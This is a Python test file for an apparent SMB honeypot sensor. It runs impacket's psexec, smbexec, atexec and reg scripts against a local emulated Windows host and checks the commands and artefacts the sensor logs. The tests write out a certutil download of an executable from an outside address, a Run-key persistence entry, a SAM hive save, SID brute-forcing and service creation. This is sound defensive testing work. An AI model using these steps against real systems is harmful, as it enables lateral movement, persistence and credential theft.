"""What attackers take SMB over with, as it is: impacket's own scripts at a whole sensor, on the port that they want."""

from __future__ import annotations

import asyncio
import hashlib
import ssl
import sys
import warnings
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any

import pytest

from eudaemon.protocols._windows import server_of
from eudaemon.world.host import Host
from eudaemon.world.seed import Seed
from payload.servers import tool
from sensor.harness import SEED, Running, events, running

_MAKE_CONTEXT = ssl.create_default_context
with warnings.catch_warnings():
    warnings.simplefilter("ignore")
    from impacket.dcerpc.v5 import lsad, lsat, rrp, samr, scmr, srvs, transport
    from impacket.examples.remcomsvc import RemComSvc
    from impacket.smbconnection import SMBConnection
ssl.create_default_context = _MAKE_CONTEXT  # impacket's examples would have the whole process trust everybody

HOW_LONG_S_MAX = 60.0  # of a machine that has much else to do
ADDRESS = "127.77.0.3"
SERVER = server_of(Host.from_seed(Seed(SEED)))
TARGET = f"Administrator:123456@{ADDRESS}"
SYSTEM = "nt authority\\system"


def script(name: str) -> str:
    """Return where one of impacket's scripts is: beside the interpreter that has impacket, or in the path."""
    beside = Path(sys.executable).parent / name
    return str(beside) if beside.exists() else tool(name, "impacket-scripts")


@asynccontextmanager
async def sensor(home: Path) -> AsyncIterator[Running]:
    async with running(home, "smb", addresses=(ADDRESS,), port=445) as net:
        yield net
    assert not events(home, "sensor.faulted", "peer.faulted")


@asynccontextmanager
async def started(name: str, *arguments: str) -> AsyncIterator[asyncio.subprocess.Process]:
    process = await asyncio.create_subprocess_exec(
        sys.executable, script(name), *arguments, stdin=asyncio.subprocess.PIPE, stdout=asyncio.subprocess.PIPE,
        stderr=asyncio.subprocess.STDOUT,
    )  # fmt: skip
    try:
        yield process
    finally:
        if process.returncode is None:
            process.kill()
            await process.wait()


async def output(name: str, *arguments: str) -> str:
    async with started(name, *arguments) as process, asyncio.timeout(HOW_LONG_S_MAX):
        return (await process.communicate())[0].decode()


async def until(process: asyncio.subprocess.Process, mark: str) -> str:
    """Return what it prints, up to a mark and with it."""
    assert process.stdout is not None
    said = b""
    async with asyncio.timeout(HOW_LONG_S_MAX):
        while not said.endswith(mark.encode()):
            byte = await process.stdout.read(1)
            assert byte, said.decode()
            said += byte
    return said.decode()


def lines(home: Path) -> list[str]:
    return [event.fact.line for event in events(home, "command.entered")]  # type: ignore[attr-defined]


async def test_somebody_types_at_psexecs_terminal(tmp_path: Path) -> None:
    """Four connections: the program's own, and one for each of what is typed, printed and complained of."""
    prompt = "C:\\Windows\\System32> "
    async with sensor(tmp_path) as net, started("psexec.py", TARGET) as process:
        assert process.stdin is not None
        assert SERVER.machine.banner in await until(process, prompt)
        for line, answer in (("whoami", f"{SYSTEM}\r\n\r\n"), ("echo one> C:\\a.txt", "\r\n"),
                             ("type C:\\a.txt", "one\r\n\r\n")):  # fmt: skip
            process.stdin.write(f"{line}\n".encode())
            said = await until(process, prompt)
            assert said.removesuffix(prompt).lstrip("\b") == answer, said  # a backspace is the script's own prompt
        process.stdin.write(b"certutil -urlcache -f http://198.51.100.7/b.exe C:\\b.exe\n")
        await net.until("download.wished")
        await until(process, prompt)
        process.stdin.write(b"exit\n")
        assert "Process cmd.exe finished with ErrorCode: 0, ReturnCode: " in await until(process, "Removing file ")
    typed = lines(tmp_path)
    assert typed[-5:-1] == ["whoami", "echo one> C:\\a.txt", "type C:\\a.txt",
                            "certutil -urlcache -f http://198.51.100.7/b.exe C:\\b.exe"]  # fmt: skip
    assert typed[-1] == "exit"
    (kept,) = (event.fact for event in events(tmp_path, "artefact.kept") if event.fact.name.startswith("ADMIN$"))  # type: ignore[attr-defined]
    assert (kept.size, kept.partial) == (56_320, False)  # type: ignore[attr-defined]
    assert kept.sha256 == hashlib.sha256(RemComSvc().read(1 << 20)).hexdigest()  # type: ignore[attr-defined]


async def one_command_of_psexec() -> None:
    async with started("psexec.py", TARGET, "net user") as process:
        said = await until(process, "Removing file ")
    assert f"User accounts for \\\\{SERVER.name}" in said
    assert "Process net user finished with ErrorCode: 0, ReturnCode: 0" in said


async def half_a_shell_of_smbexec() -> None:
    async with started("smbexec.py", TARGET) as process:
        assert process.stdin is not None
        await until(process, "C:\\Windows\\System32>")
        process.stdin.write(b"whoami\n")
        assert SYSTEM in await until(process, "System32>")
        process.stdin.write(b"exit\n")
        await process.wait()


async def a_task_of_atexec() -> None:
    said = await output("atexec.py", TARGET, "whoami")
    assert said.rstrip().endswith(SYSTEM), said


async def the_registry_with_reg() -> None:
    key = "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion"
    told = await output("reg.py", TARGET, "query", "-keyName", key)
    assert f"\tProductName\tREG_SZ\t {SERVER.machine.release.name}\n" in told
    assert f"\n{key}\\Winlogon\n" in told


def bound(pipe: str, interface: Any) -> Any:
    """A connection of its own to a service, as each run of a script has one."""
    smb = SMBConnection(ADDRESS, ADDRESS, timeout=60)
    smb.login("Administrator", "123456")
    dce = transport.SMBTransport(ADDRESS, filename=pipe, smb_connection=smb).get_dce_rpc()
    dce.connect()
    dce.bind(interface)
    return dce


def as_reg_does() -> None:
    dce = bound("\\winreg", rrp.MSRPC_UUID_RRP)
    user = rrp.hOpenCurrentUser(dce)["phKey"]
    run = rrp.hBaseRegOpenKey(dce, user, "Software\\Microsoft\\Windows\\CurrentVersion\\Run")["phkResult"]
    rrp.hBaseRegSetValue(dce, run, "evil", rrp.REG_SZ, "cmd /c whoami /all\0")
    assert rrp.hBaseRegQueryValue(dce, run, "EVIL") == (rrp.REG_SZ, "cmd /c whoami /all\0")
    sam = rrp.hBaseRegOpenKey(dce, rrp.hOpenLocalMachine(dce)["phKey"], "SAM")["phkResult"]
    with pytest.raises(rrp.DCERPCSessionError, match="PRIVILEGE_NOT_HELD"):
        rrp.hBaseRegSaveKey(dce, sam, "C:\\Windows\\Temp\\SAM.save")


def as_lookupsid_does() -> None:
    """The answer has several fragments, each of them a message of the pipe."""
    dce = bound("\\lsarpc", lsat.MSRPC_UUID_LSAT)
    policy = lsad.hLsarOpenPolicy2(dce)["PolicyHandle"]
    level = lsad.POLICY_INFORMATION_CLASS.PolicyAccountDomainInformation
    own = lsad.hLsarQueryInformationPolicy2(dce, policy, level)["PolicyInformation"]["PolicyAccountDomainInfo"]
    assert own["DomainName"] == SERVER.name
    sid = own["DomainSid"].formatCanonical()
    assert sid == SERVER.machine.sid
    sids = [f"{sid}-{number}" for number in range(500, 1100)]
    with pytest.raises(lsat.DCERPCSessionError, match="SOME_NOT_MAPPED") as caught:
        lsat.hLsarLookupSids(dce, policy, sids, lsat.LSAP_LOOKUP_LEVEL.LsapLookupWksta)
    rows = [(row["Use"], row["Name"]) for row in caught.value.get_packet()["TranslatedNames"]["Names"]]
    assert len(rows) == len(sids)
    assert (rows[0], rows[1], rows[13], rows[20]) == ((1, "Administrator"), (1, "Guest"), (2, "None"), (8, b""))
    assert [name for kind, name in rows if kind == 1] == list(SERVER.machine.users)


def as_samrdump_does() -> None:
    dce = bound("\\samr", samr.MSRPC_UUID_SAMR)
    server = samr.hSamrConnect(dce)["ServerHandle"]
    sid = samr.hSamrLookupDomainInSamServer(dce, server, SERVER.name)["DomainId"]
    domain = samr.hSamrOpenDomain(dce, serverHandle=server, domainId=sid)["DomainHandle"]
    level = samr.USER_INFORMATION_CLASS.UserAllInformation
    disabled = {}
    for user in samr.hSamrEnumerateUsersInDomain(dce, domain)["Buffer"]["Buffer"]:
        handle = samr.hSamrOpenUser(dce, domain, samr.MAXIMUM_ALLOWED, user["RelativeId"])["UserHandle"]
        told = samr.hSamrQueryInformationUser2(dce, handle, level)["Buffer"]["All"]
        assert (told["UserName"], told["UserId"]) == (user["Name"], user["RelativeId"])
        disabled[told["UserName"]] = bool(told["UserAccountControl"] & samr.USER_ACCOUNT_DISABLED)
    assert [name for name, is_disabled in disabled.items() if is_disabled] == ["Guest"]
    with pytest.raises(samr.DCERPCSessionError, match="NO_SUCH_USER"):
        samr.hSamrOpenUser(dce, domain, samr.MAXIMUM_ALLOWED, 4711)
    told = srvs.hNetrServerGetInfo(bound("\\srvsvc", srvs.MSRPC_UUID_SRVS), 102)["InfoStruct"]["ServerInfo102"]
    assert told["sv102_userpath"] == "C:\\\0"


def as_services_does() -> None:
    """Each step is a connection of its own, as with Windows' own sc.exe."""

    def opened() -> tuple[Any, Any]:
        dce = bound("\\svcctl", scmr.MSRPC_UUID_SCMR)
        return dce, scmr.hROpenSCManagerW(dce)["lpScHandle"]

    dce, manager = opened()
    scmr.hRCreateServiceW(dce, manager, "Step\0", "Step\0", lpBinaryPathName="cmd /c echo step\0")
    dce, manager = opened()
    rows = scmr.hREnumServicesStatusW(dce, manager)
    states = {row["lpServiceName"][:-1]: row["ServiceStatus"]["dwCurrentState"] for row in rows}
    assert states["Step"] == scmr.SERVICE_STOPPED
    assert states["LanmanServer"] == states["RemoteRegistry"] == scmr.SERVICE_RUNNING
    dce, manager = opened()
    service = scmr.hROpenServiceW(dce, manager, "step\0")["lpServiceHandle"]
    with pytest.raises(scmr.DCERPCSessionError, match="REQUEST_TIMEOUT"):
        scmr.hRStartServiceW(dce, service)
    dce, manager = opened()
    scmr.hRDeleteService(dce, scmr.hROpenServiceW(dce, manager, "Step\0")["lpServiceHandle"])
    dce, manager = opened()
    with pytest.raises(scmr.DCERPCSessionError, match="DOES_NOT_EXIST"):
        scmr.hROpenServiceW(dce, manager, "Step\0")


async def test_what_runs_commands_gets_their_output(tmp_path: Path) -> None:
    async with sensor(tmp_path), asyncio.TaskGroup() as group:
        for tried in (one_command_of_psexec, half_a_shell_of_smbexec, a_task_of_atexec, the_registry_with_reg):
            group.create_task(tried())
        for done in (as_reg_does, as_services_does, as_lookupsid_does, as_samrdump_does):
            group.create_task(asyncio.to_thread(done))
    entered = lines(tmp_path)
    assert "net user" in entered
    assert any("echo whoami" in line for line in entered)
    assert "echo step" in entered
    assert "whoami /all" in entered  # what would be run when somebody logs in
    assert 'reg save "HKEY_LOCAL_MACHINE\\SAM" "C:\\Windows\\Temp\\SAM.save"' in entered
